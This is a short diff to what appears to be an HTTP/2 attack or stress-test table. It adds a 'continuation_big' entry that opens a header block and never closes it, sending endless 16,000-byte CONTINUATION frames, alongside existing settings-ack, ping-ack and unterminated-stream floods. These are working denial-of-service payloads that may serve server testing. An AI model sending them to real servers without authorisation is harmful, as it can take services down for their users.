@@ -85,6 +85,8 @@ ATTACKS: dict[str, Attack] = {
     "settings_ack": Attack(b"", lambda i: frame(0x4, 0x1, 0)),
     "ping_ack": Attack(b"", lambda i: frame(0x6, 0x1, 0, b"12345678")),
     "no_end_stream": Attack(b"", lambda i: frame(0x1, 0x4, 1 + 2 * i, _block("/upload", "POST"))),
+    # a header block never ended, growing by a CONTINUATION of 16,000 bytes at a time
+    "continuation_big": Attack(frame(0x1, 0x1, 1, _block("/")), lambda i: frame(0x9, 0, 1, b"v" * 16000)),
 }
 
 
